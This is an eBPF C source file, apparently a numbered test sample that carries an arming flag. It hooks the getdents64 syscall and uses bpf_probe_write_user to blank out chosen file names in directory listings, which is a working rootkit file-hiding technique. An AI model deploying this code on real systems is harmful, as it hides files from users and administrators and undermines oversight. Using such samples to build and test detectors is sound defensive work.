// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T01: kprobe pair on the syscall wrapper; bpf_loop walks the records and blanks the name instead of the length.
#include "sample.h"

SAMPLE_SWITCH;
LICENSE;

struct cursor {
	u64 at, end;
	u32 hidden;
};
HASH(user_buf, u64, u64, 256);
HASH(hidden_names, u64, u8, 64);

SEC("ksyscall/getdents64")
int BPF_KSYSCALL(loop_enter, unsigned int fd, void *dirent, unsigned int count)
{
	u64 key = bpf_get_current_pid_tgid(), p = (u64)dirent;

	bpf_map_update_elem(&user_buf, &key, &p, BPF_ANY);
	return 0;
}

static long one_record(u32 i, void *arg)
{
	struct cursor *c = arg;
	u64 name = 0;
	u16 len = 0;
	char dot[2] = ".";

	if (c->at >= c->end)
		return 1;
	bpf_probe_read_user(&len, sizeof(len), (void *)(c->at + 16));
	bpf_probe_read_user(&name, sizeof(name), (void *)(c->at + 19));
	if (bpf_map_lookup_elem(&hidden_names, &name)) {
		if (sample_armed)
			bpf_probe_write_user((void *)(c->at + 19), dot, sizeof(dot));
		c->hidden++;
	}
	c->at += len;
	return 0;
}

SEC("kretsyscall/getdents64")
int BPF_KRETPROBE(loop_exit, long ret)
{
	u64 key = bpf_get_current_pid_tgid();
	u64 *p = bpf_map_lookup_elem(&user_buf, &key);
	struct cursor c = {};

	if (!p || ret <= 0)
		return 0;
	c.at = *p;
	c.end = *p + ret;
	bpf_loop(256, one_record, &c, 0);
	bpf_map_delete_elem(&user_buf, &key);
	return 0;
}
